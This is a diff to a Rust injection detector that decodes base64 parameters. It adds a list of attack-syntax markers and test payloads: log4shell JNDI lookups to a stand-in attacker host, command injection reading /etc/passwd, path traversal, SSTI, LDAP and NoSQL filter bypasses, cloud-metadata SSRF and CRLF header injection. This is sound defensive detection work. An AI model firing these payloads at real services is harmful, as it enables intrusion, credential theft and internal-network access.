@@ -12,8 +12,10 @@
 //! characters other than tab, CR and LF. Words, numbers, hashes and random
 //! tokens decode to bytes that are not text, so they are never judged. The
 //! decoded text then goes through the SQL, HTML, shell and path detectors,
-//! each in all the contexts it knows; the first finding wins and is
-//! reported as `base64+<context>`.
+//! each in all the contexts it knows, and last through a short list of
+//! markers of the other families (`${jndi:`, `<!--#`, `)(|(`, `"$ne"`,
+//! `169.254.169.254`, `__proto__`, …: syntax ordinary text does not hold);
+//! the first finding wins and is reported as `base64+<context>`.
 
 use super::{Detection, cmdi, path, sqli, xss};
 use crate::rules::transform::{Transform, apply};
@@ -92,7 +94,67 @@ fn decode_text(s: &[u8]) -> Option<Vec<u8>> {
     (printable && punct).then_some(out)
 }
 
-/// The detectors, in order, on decoded text.
+/// Markers of the other injection families, looked for (ASCII
+/// case-insensitively) in decoded text once the four detectors found
+/// nothing: each is a piece of syntax that ordinary text encoded in a
+/// parameter does not hold — lookups, template and include directives,
+/// serialized and LDAP/NoSQL query structure, internal URL targets, header
+/// lines after a line break.
+const MARKERS: &[(&str, &str)] = &[
+    ("${jndi:", "log4shell"),
+    ("${env:", "log4shell"),
+    ("${sys:", "log4shell"),
+    ("${lower:", "log4shell"),
+    ("${upper:", "log4shell"),
+    ("${::-", "log4shell"),
+    ("<!--#", "ssi"),
+    ("<?php", "php"),
+    ("<?=", "php"),
+    ("<%=", "template"),
+    ("{{7*7}}", "template"),
+    (".__class__", "template"),
+    ("__globals__", "template"),
+    ("__proto__", "node"),
+    ("constructor.prototype", "node"),
+    ("child_process", "node"),
+    ("java.lang.runtime", "java"),
+    ("class.module.classloader", "java"),
+    ("processbuilder(", "java"),
+    (")(|(", "ldap"),
+    (")(&(", "ldap"),
+    ("*)(", "ldap"),
+    ("\"$ne\"", "nosql"),
+    ("\"$gt\"", "nosql"),
+    ("\"$where\"", "nosql"),
+    ("\"$regex\"", "nosql"),
+    ("$where:", "nosql"),
+    ("169.254.169.254", "ssrf"),
+    ("metadata.google.internal", "ssrf"),
+    ("100.100.100.200", "ssrf"),
+    ("gopher://", "ssrf"),
+    ("dict://", "ssrf"),
+    ("file:///", "ssrf"),
+    ("\nset-cookie:", "crlf"),
+    ("\nlocation:", "crlf"),
+    ("\nbcc:", "crlf"),
+    ("\nhttp/1.", "crlf"),
+];
+
+/// The first [`MARKERS`] entry in `text`.
+fn marker(text: &[u8]) -> Option<Detection> {
+    let lower = text.to_ascii_lowercase();
+    MARKERS.iter().find_map(|&(m, family)| {
+        lower
+            .windows(m.len())
+            .any(|w| w == m.as_bytes())
+            .then(|| Detection {
+                context: "base64+marker",
+                detail: format!("{family}: {}", m.escape_debug()),
+            })
+    })
+}
+
+/// The detectors, in order, on decoded text, then the markers.
 fn judge(text: &[u8]) -> Option<Detection> {
     let found = [
         (sqli::detect as fn(&[u8]) -> Option<Detection>, "base64+sql"),
@@ -100,12 +162,15 @@ fn judge(text: &[u8]) -> Option<Detection> {
         (cmdi::detect, "base64+shell"),
         (path::detect, "base64+path"),
     ];
-    found.into_iter().find_map(|(detect, context)| {
-        detect(text).map(|d| Detection {
-            context,
-            detail: format!("{}: {}", d.context, d.detail),
+    found
+        .into_iter()
+        .find_map(|(detect, context)| {
+            detect(text).map(|d| Detection {
+                context,
+                detail: format!("{}: {}", d.context, d.detail),
+            })
         })
-    })
+        .or_else(|| marker(text))
 }
 
 /// Decides whether `input`, or (for a URL path) one of its segments, is
@@ -161,6 +226,13 @@ mod tests {
             ("; cat /etc/passwd", "base64+shell"),
             ("$(sleep 5)", "base64+shell"),
             ("../../../../etc/passwd", "base64+path"),
+            ("${jndi:ldap://evil.example/a}", "base64+marker"),
+            ("{{''.__class__.__mro__[1]}}", "base64+marker"),
+            ("<!--#exec cmd=\"id\" -->", "base64+marker"),
+            ("*)(uid=*))(|(uid=*", "base64+marker"),
+            ("{\"$ne\": null}", "base64+marker"),
+            ("http://169.254.169.254/latest/meta-data/", "base64+marker"),
+            ("x\r\nSet-Cookie: a=b", "base64+marker"),
         ];
         for (payload, context) in cases {
             let enc = b64(payload);
